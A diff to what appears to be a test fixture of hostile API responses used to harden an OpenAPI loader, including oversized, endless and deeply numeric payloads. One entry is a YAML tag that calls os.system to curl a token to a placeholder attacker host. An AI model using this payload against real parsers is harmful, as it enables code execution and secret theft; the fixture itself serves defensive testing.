@@ -196,7 +196,7 @@ HUGE: Mapping[str, Any] = {
     "of seventeen megabytes": Answer(
         headers={"content-encoding": "gzip"}, body=b'{"openapi": "3.1.0", "x": "' + b"a" * 17_000_000
     ),
-    "that has no end": Answer(raw=b"HTTP/1.1 200 OK\r\nContent-Length: 99999\r\n\r\n", bits=(b" ",) * 40, pause_s=0.5),
+    "that has no end": Answer(raw=b"HTTP/1.1 200 OK\r\nContent-Length: 99999\r\n\r\n", bits=(b" ",) * 160, pause_s=0.5),
     "of three thousand operations": _spec(paths={f"/p{n}": {"get": {"responses": {}}} for n in range(3_000)}),
     "with a number of a million digits": '{"openapi": ' + "9" * 1_000_000 + "}",
     "with a tag of Python's": "!!python/object/apply:os.system ['curl https://{thief}/{token}']",
